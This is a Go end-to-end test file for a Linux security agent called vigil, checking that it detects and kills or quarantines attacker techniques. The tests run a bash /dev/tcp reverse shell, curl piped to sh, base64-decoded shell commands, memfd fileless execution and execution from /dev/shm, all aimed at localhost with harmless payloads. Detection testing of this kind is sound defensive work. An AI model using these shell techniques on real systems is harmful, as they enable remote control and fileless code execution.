package e2e

import (
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/vigilsec/vigil/internal/testutil"
)

func cmdHas(s string) func(Alert) bool {
	return func(a Alert) bool { return strings.Contains(a.Process.Cmdline, s) || strings.Contains(a.raw, s) }
}

// copyBin copies a binary to dst with mode 0755.
func copyBin(t *testing.T, src, dst string) {
	t.Helper()
	b, err := os.ReadFile(src)
	if err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(dst, b, 0o755); err != nil {
		t.Fatal(err)
	}
}

func TestReverseShellIsKilled(t *testing.T) {
	a := agent(t)
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	defer ln.Close()
	port := ln.Addr().(*net.TCPAddr).Port
	m := marker(t)
	cmd := exec.Command("/bin/bash", "-c", fmt.Sprintf("exec -a %s /bin/bash -i >& /dev/tcp/127.0.0.1/%d 0>&1", m, port))
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	ln.(*net.TCPListener).SetDeadline(time.Now().Add(10 * time.Second))
	conn, err := ln.Accept()
	if err != nil {
		cmd.Process.Kill()
		t.Fatalf("the shell did not connect: %v", err)
	}
	defer conn.Close()
	al := a.waitAlert(t, ruleReverseShell, "T1059.004", func(al Alert) bool { return al.Process.PID == cmd.Process.Pid })
	if al.Severity != "critical" || al.Response.Action != "kill_tree" || al.Response.Result != "ok" {
		t.Errorf("reverse shell alert: severity %s, response %+v", al.Severity, al.Response)
	}
	// The effect: the shell is gone and its socket closed.
	done := make(chan error, 1)
	go func() { done <- cmd.Wait() }()
	select {
	case err := <-done:
		var ee *exec.ExitError
		if !errors.As(err, &ee) || ee.Sys().(syscall.WaitStatus).Signal() != syscall.SIGKILL {
			t.Errorf("reverse shell ended with %v, want SIGKILL", err)
		}
	case <-time.After(10 * time.Second):
		cmd.Process.Kill()
		t.Fatal("reverse shell still running 10s after the alert")
	}
	conn.SetReadDeadline(time.Now().Add(5 * time.Second))
	if _, err := io.ReadAll(conn); err != nil {
		t.Errorf("listener: %v", err)
	}
}

func TestCurlPipeShell(t *testing.T) {
	a := agent(t)
	testutil.RequireCommand(t, "curl")
	m := marker(t)
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		fmt.Fprintf(w, "echo %s\n", m)
	}))
	defer srv.Close()
	out := sh(t, fmt.Sprintf("curl -s %s/x | sh", srv.URL))
	if !strings.Contains(out, m) {
		t.Fatalf("payload did not run: %q", out)
	}
	a.waitAlert(t, ruleCurlPipe, "T1105", cmdHas(srv.URL))
}

func TestBase64PipeShell(t *testing.T) {
	a := agent(t)
	m := marker(t)
	enc := sh(t, fmt.Sprintf("printf 'echo %s' | base64 -w0", m))
	sh(t, fmt.Sprintf("echo %s | base64 -d | sh", enc))
	a.waitAlert(t, ruleBase64, "T1140", cmdHas(enc))
}

func TestMemfdExec(t *testing.T) {
	a := agent(t)
	testutil.RequireCommand(t, "/usr/bin/python3")
	m := marker(t)
	script := `import os,sys
fd = os.memfd_create(sys.argv[1])
os.write(fd, open('/bin/true','rb').read())
os.execv('/proc/self/fd/%d' % fd, [sys.argv[1]])`
	if out, err := exec.Command("/usr/bin/python3", "-c", script, m).CombinedOutput(); err != nil {
		t.Fatalf("memfd exec: %v %s", err, out)
	}
	a.waitAlert(t, ruleMemfdExec, "T1620", cmdHas(m))
}

func TestExecFromDevShmIsQuarantined(t *testing.T) {
	a := agent(t)
	m := marker(t)
	p := filepath.Join("/dev/shm", m)
	copyBin(t, "/bin/true", p)
	defer os.Remove(p)
	if err := exec.Command(p).Run(); err != nil && !errors.Is(err, syscall.EPERM) {
		t.Logf("exec %s: %v", p, err)
	}
	al := a.waitAlert(t, ruleExecShm, "T1564.001", func(al Alert) bool { return al.Process.Exe == p })
	if al.Response.Action != "quarantine" || al.Response.Result != "ok" {
		t.Fatalf("response %+v, want quarantine ok", al.Response)
	}
	if _, err := os.Stat(p); !errors.Is(err, os.ErrNotExist) {
		t.Fatalf("%s still in place after quarantine (%v)", p, err)
	}
	// It is in the vault and comes back byte for byte.
	out := run(t, vigil, "--data-dir", a.dataDir, "--format", "json", "quarantine", "list")
	if !strings.Contains(out, p) {
		t.Fatalf("quarantine list does not show %s:\n%s", p, out)
	}
	id := quarantineID(t, out, p)
	run(t, vigil, "--data-dir", a.dataDir, "quarantine", "restore", id)
	got, err := os.ReadFile(p)
	want, _ := os.ReadFile("/bin/true")
	if err != nil || string(got) != string(want) {
		t.Fatalf("restored file differs (%v)", err)
	}
}

func run(t *testing.T, name string, args ...string) string {
	t.Helper()
	out, err := exec.Command(name, args...).CombinedOutput()
	if err != nil {
		t.Fatalf("%s %s: %v\n%s", name, strings.Join(args, " "), err, out)
	}
	return string(out)
}

// quarantineID finds the vault entry of path in `vigil quarantine list
// --format json` output.
func quarantineID(t *testing.T, listJSON, path string) string {
	t.Helper()
	var entries []struct {
		ID           string `json:"id"`
		OriginalPath string `json:"original_path"`
	}
	if err := json.Unmarshal([]byte(listJSON), &entries); err != nil {
		t.Fatalf("quarantine list: %v\n%s", err, listJSON)
	}
	for _, e := range entries {
		if e.OriginalPath == path {
			return e.ID
		}
	}
	t.Fatalf("no vault entry for %s in %s", path, listJSON)
	return ""
}
